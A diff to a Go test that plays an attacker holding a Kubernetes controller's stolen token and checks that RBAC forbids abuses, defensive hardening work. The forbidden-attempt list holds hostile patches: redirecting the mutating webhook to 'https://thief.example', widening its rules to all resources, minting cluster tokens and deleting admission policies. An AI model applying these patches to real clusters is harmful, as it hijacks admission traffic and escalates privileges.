@@ -33,6 +33,7 @@ func TestStolenControllerToken(t *testing.T) {
 	ns := env.CreateNamespace(t, nil, "edge", "other")
 	pod := env.CreateEdge(t, ns, "front", "edge")
 	awaitSecret(t, ns)
+	withoutSecret := env.CreateNamespace(t, nil, "other")
 	controller := stolenClient(t, environment.Namespace, "isthmus-controller")
 	_, err := env.Kube.CoreV1().ServiceAccounts("default").Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "target"}}, metav1.CreateOptions{})
 	require.NoError(t, err)
@@ -46,13 +47,14 @@ func TestStolenControllerToken(t *testing.T) {
 	t.Run("it reads the Secrets of edges", func(t *testing.T) {
 		assert.NoError(t, readSecret(ns, "istio-certs")(t.Context(), controller))
 	})
-	// RBAC grants the patch of an object, not of a field, and the API server calls no
-	// admission policy for webhook configurations: docs/security.md explains the
-	// consequences.
-	t.Run("it redirects and extends the webhook configuration, where the certificate is self-managed", func(t *testing.T) {
-		patch := `[{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]},{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://thief.example"}}]`
-		_, err := controller.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(t.Context(), "isthmus-injector", types.JSONPatchType, []byte(patch), metav1.PatchOptions{DryRun: dryRun})
-		assert.NoError(t, err)
+	patchConfiguration := func(patch string) attempt {
+		return func(ctx context.Context, k *kubernetes.Clientset) error {
+			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "isthmus-injector", types.JSONPatchType, []byte(patch), metav1.PatchOptions{DryRun: dryRun})
+			return err
+		}
+	}
+	t.Run("it replaces the caBundle, where the certificate is self-managed", func(t *testing.T) {
+		assert.NoError(t, patchConfiguration(`[{"op":"add","path":"/webhooks/0/clientConfig/caBundle","value":"LS0tLS0="}]`)(t.Context(), controller))
 	})
 	expectAllForbidden(t, controller, map[string]attempt{
 		"a token for the API server, bound to a pod": createToken(ns, "edge", toPod, "https://kubernetes.default.svc"),
@@ -100,6 +102,11 @@ func TestStolenControllerToken(t *testing.T) {
 			}
 			return listSecrets("")(ctx, k)
 		},
+		"extend the webhook configuration":   patchConfiguration(`[{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]}]`),
+		"redirect the webhook configuration": patchConfiguration(`[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://thief.example"}}]`),
+		"mint a token through a Secret":      mintToken(withoutSecret, "other"),
+		"mint a token of the cluster":        mintToken("kube-system", "default"),
+		"write a Secret elsewhere":           applySecret("default", "kubernetes.io/tls", nil),
 		"patch another webhook configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
 			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "istio-sidecar-injector", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{DryRun: dryRun})
 			return err
@@ -111,6 +118,9 @@ func TestStolenControllerToken(t *testing.T) {
 		},
 		"delete the webhook configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
 			return k.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(ctx, "isthmus-injector", metav1.DeleteOptions{DryRun: dryRun})
+		},
+		"delete the policy for Secrets": func(ctx context.Context, k *kubernetes.Clientset) error {
+			return k.AdmissionregistrationV1().ValidatingAdmissionPolicies().Delete(ctx, "isthmus-secrets", metav1.DeleteOptions{DryRun: dryRun})
 		},
 		"delete the policy": func(ctx context.Context, k *kubernetes.Clientset) error {
 			return k.AdmissionregistrationV1().ValidatingAdmissionPolicies().Delete(ctx, "isthmus-controller-tokens", metav1.DeleteOptions{DryRun: dryRun})
